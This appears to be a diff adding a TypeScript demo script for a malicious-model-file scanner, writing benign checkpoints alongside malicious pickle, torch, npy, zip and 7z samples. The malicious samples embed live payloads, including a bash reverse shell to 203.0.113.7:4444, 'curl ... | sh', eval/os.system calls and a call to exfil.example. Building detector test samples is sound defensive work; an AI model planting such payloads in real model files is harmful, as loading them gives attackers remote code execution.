@@ -1,0 +1,45 @@
+/**
+ * Writes example model files, benign and malicious, built by code from the test fixture builders so every
+ * payload is readable source. Used by `npm run demo`; safe to run anywhere: nothing here is ever loaded.
+ */
+import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { legacyTorchFile, sklearnJoblibPipeline, torchStateDictPickle } from '../test/fixtures/checkpoints.ts';
+import { buildNpy } from '../test/fixtures/npy-writer.ts';
+import { concat, pickle, reducePayload, stackGlobalPayload } from '../test/fixtures/pickle-writer.ts';
+import { buildSevenZip } from '../test/fixtures/sevenzip-writer.ts';
+import { buildTorchZip, buildZip } from '../test/fixtures/zip-writer.ts';
+
+/** Each example: a path under the output folder and its bytes. */
+export async function exampleFiles(): Promise<[string, Uint8Array][]> {
+  const reverseShell = reducePayload('os', 'system', ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"']);
+  return [
+    ['benign/bert_state_dict.pt', buildTorchZip(torchStateDictPickle(4), { storages: [...Array(8)].map(() => new Uint8Array(64)) })],
+    ['benign/legacy_checkpoint.pth', legacyTorchFile()],
+    ['benign/sklearn_pipeline.joblib', sklearnJoblibPipeline()],
+    ['benign/embeddings.npy', buildNpy({ descr: '<f4', shape: [4, 4], data: new Uint8Array(64) })],
+    ['malicious/reverse_shell.pt', buildTorchZip(reverseShell)],
+    ['malicious/hidden_as_data_txt.zip', buildZip([{ name: 'model/data.txt', data: reducePayload('builtins', 'eval', ["__import__('os').system('id')"]) }])],
+    [
+      'malicious/header_name_mismatch.pt',
+      buildZip([{ name: 'archive/data.pkl', localName: 'archive/datap.kl', data: reducePayload('subprocess', 'run', ['id']) }]),
+    ],
+    ['malicious/payload_in_second_pickle.bin', concat(pickle().proto(2).none().stop().bytesOut(), stackGlobalPayload('pathlib', 'os.system', ['id']))],
+    ['malicious/legacy_payload_in_pickle4.pt', legacyTorchFile(reducePayload('posix', 'system', ['curl http://203.0.113.7 | sh']))],
+    ['malicious/object_array.npy', buildNpy({ descr: '|O', shape: [1], data: reducePayload('ssl', 'get_server_certificate', ['exfil.example', '443']) })],
+    ['malicious/nullifai_in_7z.7z', await buildSevenZip([{ name: 'model.pkl', data: reverseShell }])],
+  ];
+}
+
+/** Writes the examples under `dir` (replacing what was there) and returns their paths. */
+export async function writeExamples(dir: string): Promise<string[]> {
+  rmSync(dir, { recursive: true, force: true });
+  const paths: string[] = [];
+  for (const [rel, bytes] of await exampleFiles()) {
+    const path = join(dir, rel);
+    mkdirSync(join(path, '..'), { recursive: true });
+    writeFileSync(path, bytes);
+    paths.push(path);
+  }
+  return paths;
+}
